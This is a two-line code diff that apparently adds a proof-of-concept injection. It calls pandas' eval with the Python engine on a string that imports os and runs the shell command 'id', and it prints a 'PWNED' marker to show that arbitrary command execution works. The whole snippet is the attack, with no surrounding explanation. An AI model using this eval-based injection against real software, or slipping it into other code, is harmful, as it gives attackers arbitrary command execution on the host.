@@ -1,0 +1,2 @@
+import pandas as pd
+print("PW" + "NED:", pd.eval("__import__('os').system('id')", engine="python"))
